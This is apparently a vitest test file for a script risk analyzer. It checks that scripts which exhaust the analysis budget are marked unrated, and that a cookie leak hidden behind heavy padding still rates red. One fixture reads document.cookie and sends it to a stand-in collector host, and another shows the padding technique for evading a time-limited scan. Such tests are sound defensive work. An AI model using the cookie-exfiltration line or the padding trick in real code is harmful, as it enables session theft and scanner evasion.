import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";

const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";

/** Work that brings nothing to light. Calls with constants are looked at one by one, so it is never summarized. */
const BALLAST = Array.from({ length: 300 }, (_, run) => `burn(${run});`).join("\n");
const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";

describe("a script that exhausts the budget", () => {
	test("is not rated, and the text says so", () => {
		const result = analyzeScript({ code: `${BURN}\n${BALLAST}` });
		expect(result).toMatchObject({ risk_level: "unrated", score: 0 });
		expect(result.summary).toContain("took too long to check");
	});

	test("cannot hide a leak behind it: a run that does not believe in constants skips the work", () => {
		expect(analyzeScript({ code: `${BURN}\n${BALLAST}\n${LEAK}` }).risk_level).toBe("red");
	});

	test("stays red when the leak was proven before", () => {
		expect(analyzeScript({ code: `${LEAK}\n${BURN}\n${BALLAST}` }).risk_level).toBe("red");
	});
});
